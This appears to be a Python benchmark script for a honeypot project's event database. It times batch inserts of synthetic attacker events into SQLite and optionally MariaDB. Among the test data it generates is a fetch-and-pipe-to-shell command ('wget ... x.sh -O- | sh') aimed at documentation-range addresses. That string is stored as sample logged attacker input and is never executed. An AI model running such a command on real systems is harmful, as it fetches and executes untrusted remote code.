"""Benchmark of ``add_events`` against raw ``sqlite3.executemany`` (prints figures, gates nothing).

    .venv/bin/python -m tests.decnet.db.bench_add_events [--events 100000] [--batch 1000] [--mysql]

The raw baseline inserts already-built tuples into the same schema (migrated by the repository,
same pragmas), one transaction per batch; ``add_events`` starts from :class:`Event` objects.
``--mysql`` also measures MariaDB/MySQL at ``DECNET_TEST_MYSQL_URL`` (a scratch database
``decnet_test_bench_*`` is created and dropped).
"""

from __future__ import annotations

import argparse
import asyncio
import os
import sqlite3
import tempfile
import time
import uuid
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy.engine import make_url
from sqlalchemy.ext.asyncio import create_async_engine

from decnet.db.mysql import MySQLRepository
from decnet.db.repository import EVENT_INSERT_COLUMNS, SQLModelRepository
from decnet.db.sqlite import SQLiteRepository
from decnet.events.model import Event, new_eid

DEFAULT_MYSQL_URL = "mysql+asyncmy://root@127.0.0.1:3306"


def make_events(n: int) -> list[Event]:
    """Realistic events: a mix of connects, auth attempts with credentials, and commands."""
    start = datetime.now(UTC)
    out = []
    for i in range(n):
        kind = i % 3
        fields = {} if kind == 0 else {"username": f"user{i % 50}", "password": f"pw{i}"}
        if kind == 2:
            fields = {"command": f"wget http://203.0.113.{i % 250}/x.sh -O- | sh"}
        out.append(
            Event(
                eid=new_eid() + f"{i:08x}",
                timestamp=start + timedelta(microseconds=i),
                decky=f"decky-{i % 20:02d}",
                service=("ssh", "http", "smb")[kind],
                event_type=("connect", "auth", "command")[kind],
                src_ip=f"198.51.100.{i % 250}",
                src_port=1024 + i % 60000,
                sid=f"s{i // 5}",
                fields=fields,
                message="" if kind == 0 else "attempt",
            )
        )
    return out


def raw_rows(events: Sequence[Event]) -> list[tuple[object, ...]]:
    received = datetime.now(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")
    import json

    return [
        (
            e.eid,
            e.timestamp.strftime("%Y-%m-%d %H:%M:%S.%f"),
            received,
            e.decky,
            e.service,
            e.event_type,
            e.src_ip,
            e.src_port,
            e.sid,
            json.dumps(e.fields),
            e.message,
            e.facility,
            e.severity,
        )
        for e in events
    ]


async def fresh_sqlite(path: Path) -> SQLiteRepository:
    repo = SQLiteRepository(f"sqlite+aiosqlite:///{path}")
    await repo.initialize()
    return repo


def bench_raw_sqlite(path: Path, rows: list[tuple[object, ...]], batch: int) -> float:
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA journal_mode = WAL")
    conn.execute("PRAGMA synchronous = NORMAL")
    cols = ", ".join(f'"{c}"' for c in EVENT_INSERT_COLUMNS)
    sql = f'INSERT OR IGNORE INTO "event" ({cols}) VALUES ({", ".join("?" * len(EVENT_INSERT_COLUMNS))})'
    t0 = time.perf_counter()
    for i in range(0, len(rows), batch):
        with conn:
            conn.executemany(sql, rows[i : i + batch])
    elapsed = time.perf_counter() - t0
    conn.close()
    return len(rows) / elapsed


async def bench_repo(repo: SQLModelRepository, events: list[Event], batch: int) -> float:
    t0 = time.perf_counter()
    for i in range(0, len(events), batch):
        result = await repo.add_events(events[i : i + batch])
        assert result.duplicates == 0, result
    return len(events) / (time.perf_counter() - t0)


async def bench_mysql(events: list[Event], batch: int) -> float:
    base = make_url(os.environ.get("DECNET_TEST_MYSQL_URL", DEFAULT_MYSQL_URL))
    name = f"decnet_test_bench_{uuid.uuid4().hex[:8]}"
    admin = create_async_engine(base.set(database=None))
    async with admin.begin() as conn:
        await conn.exec_driver_sql(f"CREATE DATABASE {name} CHARACTER SET utf8mb4")
    try:
        repo = MySQLRepository(base.set(database=name))
        await repo.initialize()
        rate = await bench_repo(repo, events, batch)
        await repo.close()
        return rate
    finally:
        async with admin.begin() as conn:
            await conn.exec_driver_sql(f"DROP DATABASE {name}")
        await admin.dispose()


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--events", type=int, default=100_000)
    parser.add_argument("--batch", type=int, default=1000)
    parser.add_argument("--mysql", action="store_true")
    args = parser.parse_args()
    events = make_events(args.events)
    with tempfile.TemporaryDirectory() as tmp:
        raw_path, repo_path = Path(tmp, "raw.db"), Path(tmp, "repo.db")
        await (await fresh_sqlite(raw_path)).close()
        raw = bench_raw_sqlite(raw_path, raw_rows(events), args.batch)
        repo = await fresh_sqlite(repo_path)
        ours = await bench_repo(repo, events, args.batch)
        await repo.close()
    print(f"events={args.events} batch={args.batch}")
    print(f"raw sqlite3.executemany : {raw:10,.0f} events/s")
    print(f"SQLite add_events       : {ours:10,.0f} events/s ({ours / raw:.0%} of raw)")
    if args.mysql:
        print(f"MariaDB add_events      : {await bench_mysql(events, args.batch):10,.0f} events/s")


if __name__ == "__main__":
    asyncio.run(main())
